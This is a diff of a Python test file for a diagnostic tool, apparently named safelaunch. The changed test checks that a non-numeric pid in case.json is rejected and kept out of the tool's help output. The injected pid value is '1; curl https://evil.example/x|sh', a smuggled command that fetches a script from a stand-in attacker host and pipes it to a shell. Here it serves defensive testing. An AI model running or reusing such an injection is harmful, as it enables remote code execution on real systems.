@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 from safelaunch import printable
 from safelaunch.cli import diagnose, redact
-from safelaunch.codec import from_json
+from safelaunch.codec import ShapeError, checked
 from safelaunch.evidence.logs.prefixes import Habits, strip
 from safelaunch.model import Case, Location, Settings, Verdict
 from safelaunch.printable import line, quoted, whole
@@ -143,15 +143,17 @@ def test_a_text_is_no_pid(tmp_path: Path) -> None:
     document = json.loads((CASES / "hang-stopped" / "case.json").read_text())
     for rank in document["ranks"]:
         rank["pid"] = "1; curl https://evil.example/x|sh"
-    with pytest.raises(TypeError, match="expected int, got str"):
-        from_json(Case, document)
+    with pytest.raises(ShapeError, match="expected a whole number"):
+        checked(Case, document)
     folder = tmp_path / "incident-0" / "evidence"
     folder.mkdir(parents=True)
     (folder / "case.json").write_text(json.dumps(document))
     command = [sys.executable, "-m", "safelaunch", "diagnose", str(folder.parent)]
     done = subprocess.run(command, env=environment(), capture_output=True, text=True, timeout=60)
     assert done.returncode == 2
-    assert "curl" not in done.stdout + done.stderr
+    advice = [line for line in done.stderr.splitlines() if "help:" in line]
+    assert advice
+    assert not any("curl" in line for line in advice)
 
 
 def test_the_advice_of_a_bundle_is_not_that_of_its_sender(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
